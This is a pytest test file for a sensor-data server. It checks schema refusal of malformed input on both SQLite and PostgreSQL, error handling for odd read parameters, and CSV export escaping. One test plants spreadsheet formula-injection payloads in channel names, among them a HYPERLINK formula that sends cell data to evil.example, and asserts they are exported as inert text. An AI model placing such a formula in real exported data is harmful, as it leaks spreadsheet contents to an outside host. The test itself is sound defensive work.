"""One meaning on both databases (#13, old #11, item 5): the same document is refused, or stored and
read back, identically on SQLite and PostgreSQL; no value can make a read fail; CSV cells are text."""

from __future__ import annotations

import csv
import gzip
import io
import json
import math

import pytest
import requests

from central.server import serve_in_thread
from tests.central.helpers import KEY, NODE, body_of, get, make_batch, now_ms, post, read_token


def sample_doc() -> dict:
    doc = json.loads(gzip.decompress(body_of(make_batch(range(6)))))
    doc["gaps"] = [{"epoch": 1, "first_seq": 100, "last_seq": 101, "count": 2, "reason": "evicted_age"}]
    doc["incidents"] = [{"id": 1, "wall_ms": 5, "kind": "disk_full", "detail": "ENOSPC"}]
    return doc


def send(url: str, doc: dict) -> requests.Response:
    return post(url, gzip.compress(json.dumps(doc).encode()))  # ensure_ascii: "\ud800" stays an escape


def _set(doc: dict, path: tuple, value) -> dict:
    target = doc
    for step in path[:-1]:
        target = target[step]
    target[path[-1]] = value
    return doc


def _x(doc: dict, value) -> dict:
    ch = doc["channels"][0]
    ch["v"][-1] = None
    ch["x"] = [[len(ch["v"]) - 1, value]]
    return doc


REFUSED = [  # (what, change the sample document, the field the 422 names)
    ("NUL in a health value", lambda d: _set(d, ("health", "firmware"), "0.1\x00"), "health.firmware"),
    ("NUL in a health key", lambda d: _set(d, ("health", "k\x00"), 1), "health"),
    ("lone surrogate in a health value", lambda d: _set(d, ("health", "label"), "a\ud800"), "health.label"),
    ("NUL in an incident detail", lambda d: _set(d, ("incidents", 0, "detail"), "x\x00y"),
     "incidents[0].detail"),
    ("lone surrogate in an incident kind", lambda d: _set(d, ("incidents", 0, "kind"), "\udfff"),
     "incidents[0].kind"),
    ("detail one character too long", lambda d: _set(d, ("incidents", 0, "detail"), "é" * 4097),
     "incidents[0].detail"),
    ("lone surrogate in a channel name", lambda d: _set(d, ("channels", 0, "name"), "w.t\ud83c"),
     "channels[0].name"),
    ("NUL in a unit", lambda d: _set(d, ("channels", 0, "unit"), "\x00C"), "channels[0].unit"),
    ("NUL in a boot id", lambda d: _set(d, ("boots", 0), "boot\x00"), "boots[0]"),
    ("NUL in a gap reason", lambda d: _set(d, ("gaps", 0, "reason"), "evicted_age\x00"), "gaps[0].reason"),
    ("inf", lambda d: _x(d, "inf"), "channels[0].x[0][1]"),
    ("-inf", lambda d: _x(d, "-inf"), "channels[0].x[0][1]"),
    ("nan", lambda d: _x(d, "nan"), "channels[0].x[0][1]"),
    ("a number as a string", lambda d: _x(d, "1.5"), "channels[0].x[0][1]"),
]


@pytest.mark.parametrize(("what", "change", "field"), REFUSED, ids=[r[0] for r in REFUSED])
def test_refused_alike_on_both_stores_and_reads_still_work(central, what, change, field):
    url, store, auth = central
    r = send(url, change(sample_doc()))
    assert (r.status_code, r.headers["content-type"]) == (422, "application/json"), r.text
    assert (r.json()["error"], r.json()["field"]) == ("schema", field), r.text
    assert store.count_readings(NODE) == 0 and store.gaps(NODE) == [] and store.incidents(NODE) == []
    for path in ("/v1/nodes", f"/v1/nodes/{NODE}/readings"):
        assert get(url + path, auth).status_code == 200, path


def test_what_is_accepted_reads_back_exactly_on_both_stores(central):
    url, store, auth = central
    doc = sample_doc()
    detail = "€" * 4096  # the limit counts code points, not bytes (12 KiB of UTF-8 here)
    doc["incidents"][0]["detail"] = detail
    doc["health"]["label"] = "rain 🌧 ✓ \t tab"  # astral characters are not surrogates
    _x(doc, 1e308)
    doc["channels"][1]["v"][-1] = None
    doc["channels"][1]["x"] = [[len(doc["channels"][1]["v"]) - 1, -5e-324]]
    r = send(url, doc)
    assert r.status_code == 200, r.text
    assert store.incidents(NODE)[0].detail == detail
    (node,) = get(url + "/v1/nodes", auth).json()["nodes"]
    assert node["health"]["label"] == "rain 🌧 ✓ \t tab"
    values = {x["seq"]: x["value"] for x in get(f"{url}/v1/nodes/{NODE}/readings", auth).json()["readings"]}
    assert 1e308 in values.values() and -5e-324 in values.values(), values
    assert all(v is None or math.isfinite(v) for v in values.values())


@pytest.mark.parametrize(("path", "params", "status", "field"), [
    (f"/v1/nodes/{NODE}/readings", {"channel": "a\x00b"}, 400, "channel"),
    (f"/v1/nodes/{NODE}/readings", {"channel": "x" * 257}, 400, "channel"),
    (f"/v1/nodes/{NODE}/readings", {"since": "²"}, 400, "since"),
    (f"/v1/nodes/{NODE}/readings", {"limit": "ten"}, 400, "limit"),
    (f"/v1/nodes/{NODE}%0A/readings", {}, 404, None),
    (f"/v1/nodes/{NODE}%00/readings", {}, 404, None),
    ("/v1/nodes/%ED%A0%80/readings", {}, 404, None),
    ("/v1/nodes/%FF/readings", {}, 404, None),
])
def test_odd_read_parameters_are_json_4xx_on_both_stores(central, path, params, status, field):
    url, _, auth = central
    r = get(url + path, auth, params=params)
    assert (r.status_code, r.headers["content-type"]) == (status, "application/json"), r.text
    assert r.json().get("field") == field and r.json()["message"]


def test_csv_cells_that_a_spreadsheet_would_run_are_text(central):
    url, _, auth = central
    doc = sample_doc()
    doc["channels"][0]["name"] = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    doc["channels"][1]["name"] = "@SUM(A1:A9)"
    doc["channels"][0]["unit"] = "+1"
    doc["boots"][0] = "-2+3"
    doc["channels"][2]["v"] = [-250, 0]  # negative numbers stay numbers
    doc["channels"][2]["s"] = doc["channels"][2]["s"][:2]
    doc["channels"][2]["t"] = doc["channels"][2]["t"][:2]
    doc["channels"][2].pop("f", None)
    assert send(url, doc).status_code == 200
    r = get(f"{url}/v1/nodes/{NODE}/readings", auth, params={"format": "csv"})
    rows = list(csv.DictReader(io.StringIO(r.text)))
    by_channel = {row["channel"]: row for row in rows}
    assert set(by_channel) == {"'" + doc["channels"][0]["name"], "'@SUM(A1:A9)", doc["channels"][2]["name"]}
    assert by_channel["'" + doc["channels"][0]["name"]]["unit"] == "'+1"
    assert {row["boot_id"] for row in rows} == {"'-2+3"}
    assert by_channel[doc["channels"][2]["name"]]["value"] == "-2.5"
    for row in rows:  # no cell but a number starts with = + - @
        for column, cell in row.items():
            assert cell[:1] not in ("=", "+", "@") and (not cell.startswith("-") or float(cell) < 0), column


def test_a_batch_without_health_keeps_the_stored_health(central):
    url, _, auth = central
    assert send(url, sample_doc()).status_code == 200
    no_health = sample_doc()
    del no_health["health"]
    empty_health = sample_doc()
    empty_health["health"] = {}
    for later in (no_health, empty_health):
        assert send(url, later).status_code == 200
        (node,) = get(url + "/v1/nodes", auth).json()["nodes"]
        assert (node["backlog_readings"], node["firmware"]) == (5, "0.1.0")


def test_a_non_finite_value_stored_before_the_rule_becomes_no_value_at_the_upgrade(store_url):
    """A round-1 database can hold inf (NaN too on PostgreSQL): the upgrade makes them null."""
    from central.store import open_store
    from tests.central import round1
    from tests.central.test_migrations import round1_database

    round1_database(store_url)
    odd = [(round1.NODE, 3, 900 + i, "weather.temperature_c", v, 0, 1_764_000_000_000, 0, "boot-r1",
            1_764_000_100_000) for i, v in enumerate([math.inf, -math.inf, math.nan, 1e308])]
    if store_url.startswith("sqlite:"):
        import sqlite3

        conn = sqlite3.connect(store_url[len("sqlite:///"):])
        conn.executemany(f"INSERT INTO readings VALUES ({', '.join('?' * 10)})", odd)
    else:
        import psycopg

        from central.store_pg import split_schema

        base, schema = split_schema(store_url)
        conn = psycopg.connect(base)
        conn.execute(f'SET search_path TO "{schema}"')
        conn.cursor().executemany(f"INSERT INTO readings VALUES ({', '.join(['%s'] * 10)})", odd)
    conn.commit()
    conn.close()
    store = open_store(store_url)
    try:
        values = {r.seq: r.value for r in store.readings(round1.NODE) if r.seq >= 900}
        assert values == {900: None, 901: None, 902: None, 903: 1e308}
        store.add_node(NODE, KEY, now_ms())
        url, stop = serve_in_thread(store)
        try:
            r = get(f"{url}/v1/nodes/{round1.NODE}/readings", read_token(store))
            assert r.status_code == 200 and r.json()["count"] == 54
        finally:
            stop()
    finally:
        store.close()
